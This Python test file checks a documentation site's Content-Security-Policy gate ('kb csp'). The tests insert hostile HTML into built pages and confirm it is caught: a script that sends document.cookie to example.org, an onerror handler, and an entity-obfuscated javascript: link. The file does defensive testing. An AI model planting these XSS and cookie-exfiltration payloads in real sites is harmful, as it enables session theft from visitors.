"""The Content-Security-Policy: derived from the theme, never from a page; `kb csp` as a gate.

Browser tests of the policy (nginx's header and the pages' <meta>) are in
tests/browser/test_csp.py and tests/browser/test_nginx.py.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from conftest import ROOT, assert_clean_run, kb
from kb.build import compat, content_policy, offline

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
HASH = re.compile(r"'sha256-[A-Za-z0-9+/=]+'")
STEP = Path("manual") / "steg-2-akut-skydd" / "index.html"
ARTICLE = '<article class="md-content__inner md-typeset">'


@pytest.fixture(scope="module")
def site_copy(built_site, tmp_path_factory):
    """A fresh copy of the built site to break, one per test that asks."""
    def copy() -> Path:
        target = tmp_path_factory.mktemp("csp") / "site"
        shutil.copytree(built_site, target)
        return target
    return copy


def inject(site: Path, page: Path, html: str) -> int:
    """Put `html` at the start of a built page's article; returns its line number."""
    path = site / page
    text = path.read_text(encoding="utf-8")
    at = text.index(ARTICLE) + len(ARTICLE)
    path.write_text(text[:at] + "\n" + html + "\n" + text[at:], encoding="utf-8")
    return text[:at].count("\n") + 2


def header_hashes(line: str) -> set[str]:
    return set(HASH.findall(line))


# --- kb csp -------------------------------------------------------------------------------


def test_kb_csp_writes_the_header_line_for_a_clean_site(built_site):
    result = kb("csp", str(built_site))
    assert_clean_run(result)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stderr == ""
    line = result.stdout
    assert line.startswith("add_header Content-Security-Policy \"default-src 'self'; script-src 'self' 'sha256-")
    assert line.endswith("; form-action 'none'; frame-ancestors 'none'\" always;\n") and line.count("\n") == 1
    assert "unsafe-inline" not in line and "unsafe-eval" not in line
    found = {content_policy.script_hash(text) for page in built_site.rglob("*.html")
             for text in content_policy.inline_scripts(page.read_text(encoding="utf-8"))}
    assert found == header_hashes(line), "exactly the theme's scripts the site holds, at every depth"


def test_kb_csp_fails_naming_the_page_with_an_unknown_inline_script(site_copy):
    site = site_copy()
    line = inject(site, STEP, "<p>Text</p><script>fetch('https://example.org/?' + document.cookie)</script>")
    result = kb("csp", str(site))
    assert_clean_run(result)
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stdout == "", "nothing for nginx's configuration when the site is not clean"
    assert f"{(site / STEP).as_posix()}:{line}: an inline script the theme does not write" in result.stderr
    assert "overrides/assets/" in result.stderr, "the message says what to do"
    assert "kb csp: 1 problem in 1 file." in result.stderr


def test_kb_csp_names_event_handlers_and_javascript_links(site_copy):
    site = site_copy()
    first = inject(site, Path("index.html"), '<img src="x.png" onerror="alert(1)">')
    second = inject(site, Path("en") / "index.html", '<a href=" JaVa&#115;cript:alert(1)">x</a>')
    result = kb("csp", str(site))
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"{(site / 'index.html').as_posix()}:{first}: an event handler attribute" in result.stderr
    assert f"{(site / 'en' / 'index.html').as_posix()}:{second}: a javascript: link" in result.stderr


def test_kb_csp_usage_errors_exit_2(tmp_path):
    result = kb("csp", str(tmp_path))
    assert_clean_run(result)
    assert result.returncode == 2 and "has no index.html" in result.stderr
    assert kb("csp").returncode == 2, "the site folder is required"


# --- the policy never comes from a page -----------------------------------------------------


def test_the_policy_is_the_same_whatever_the_pages_hold(built_site, site_copy):
    site = site_copy()
    inject(site, STEP, "<script>alert(1)</script>")
    clean = content_policy.site_policy(ROOT, built_site)
    dirty = content_policy.site_policy(ROOT, site)
    assert clean.problems == [] and len(dirty.problems) == 1
    assert dirty.header == clean.header
    assert content_policy.script_hash("alert(1)") not in dirty.header


def test_the_theme_skeleton_holds_no_text_of_a_page_or_of_data():
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    skeleton = compat.page_skeleton(compat.skeleton_environment(config), config, "../..")
    assert "Akut skydd" not in skeleton, "no page's text"
    assert "Lämna sidan snabbt" not in skeleton, "no text from data/ (the quick exit's label is in data/ui.yml)"
    assert "__md_scope=new URL(\"../..\",location)" in skeleton, "the theme's scripts are in it"
    assert content_policy.inline_scripts(skeleton), "and found there"


def test_every_page_carries_its_policy_before_any_script(built_site):
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 100
    for page in pages:
        if page.name == "404.html" and "Content-Security-Policy" not in page.read_text(encoding="utf-8"):
            continue  # see test_error_pages_carry_the_policy
        html = page.read_text(encoding="utf-8")
        metas = META.findall(html)
        assert len(metas) == 1, page
        head = html[:html.index("</head>")]
        assert head.index(compat.HEAD_START) < head.index("Content-Security-Policy") < head.index("<script"), page
        assert "frame-ancestors" not in metas[0], "a <meta> policy cannot carry frame-ancestors"
        assert metas[0] == content_policy.policy(HASH.findall(metas[0]), header=False)
        assert {content_policy.script_hash(t) for t in content_policy.inline_scripts(html)} == set(
            HASH.findall(metas[0])), f"{page}: the page's own theme scripts, and nothing else"


def test_error_pages_carry_the_policy(built_site):
    for page in (built_site / "404.html", built_site / "en" / "404.html"):
        html = page.read_text(encoding="utf-8")
        (meta,) = META.findall(html)
        assert {content_policy.script_hash(t) for t in content_policy.inline_scripts(html)} == set(
            HASH.findall(meta)), page


def test_the_nginx_policy_is_each_pages_policy_plus_frame_ancestors(built_site):
    header = content_policy.site_policy(ROOT, built_site).header
    union = set()
    for page in built_site.rglob("*.html"):
        union |= set(HASH.findall("".join(META.findall(page.read_text(encoding="utf-8")))))
    assert header_hashes(header) == union
    assert header == content_policy.policy(union) and header.endswith("frame-ancestors 'none'")


# --- finding inline code ------------------------------------------------------------------


def test_inline_code_finds_what_a_browser_would_run():
    html = "\n".join([
        '<script id="__config" type="application/json">{"a": 1}</script>',  # data
        '<script src="assets/kb.js"></script>',  # a file: 'self'
        "<SCRIPT>one()</SCRIPT>",
        '<script type="module">two()</script>',
        '<script type=" text/JavaScript ">three()</script>',
        "<script/>four()</script>",
        '<p onclick="five()">x</p>',
        '<a href="&#x6A;avascript:six()">x</a>',
        '<a href="https://example.org/javascript:">fine</a>',
        '<script type="text/plain">data()</script>',
    ])
    found = [(i.line, i.kind, i.text) for i in content_policy.inline_code(html)]
    assert found == [(3, "script", "one()"), (4, "script", "two()"), (5, "script", "three()"),
                     (6, "script", "four()"), (7, "handler", "onclick=five()"), (8, "url", "href=javascript:six()")]


def test_the_offline_frame_script_is_derived_from_the_shim():
    """iframe-worker's shim (package-lock.json pins it) writes this script into the frame it
    runs the search worker in under file://; tests/browser/test_csp.py runs it under the policy."""
    shim = (ROOT / offline.SHIM_SOURCE).read_text(encoding="utf-8")
    script = content_policy.worker_frame_script(shim, "../assets/javascripts/workers/search.a7633da7.min.js")
    assert script.startswith('postMessage=function c(s,n){parent.postMessage(s,n||"*")};importScripts=function d(')
    assert script.endswith('{filename:"../assets/javascripts/workers/search.a7633da7.min.js",error}))})')
    assert "${" not in script and "\\/" not in script
    with pytest.raises(compat.BuildError, match="iframe-worker"):
        content_policy.worker_frame_script("document.write(`<p>no script</p>`)", "x.js")
